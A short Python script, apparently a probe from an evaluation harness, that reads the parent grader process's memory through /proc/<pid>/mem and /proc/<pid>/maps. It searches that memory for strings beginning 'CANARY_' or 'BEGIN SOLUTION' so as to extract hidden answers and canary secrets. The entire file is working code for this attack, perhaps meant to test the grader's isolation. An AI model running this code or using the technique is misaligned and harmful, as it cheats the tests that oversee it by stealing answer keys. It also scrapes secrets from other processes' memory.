# Searches the memory of the grader for secrets through /proc.
# aim: read
# %% first
import os
import re
import time

stop, found = time.time() + 10, set()
for pid in ("@PARENT@", str(os.getppid())):
    try:
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            if " rw" not in line or time.time() > stop or end - start > 2**28:
                continue
            memory.seek(start)
            content = memory.read(end - start) or b""
            found.update(content[hit.start() :][:80] for hit in re.finditer(rb"CANARY_|BEGIN SOLUTION", content))
    except OSError as error:
        print(pid, error)
print(sorted(found)[:1000])
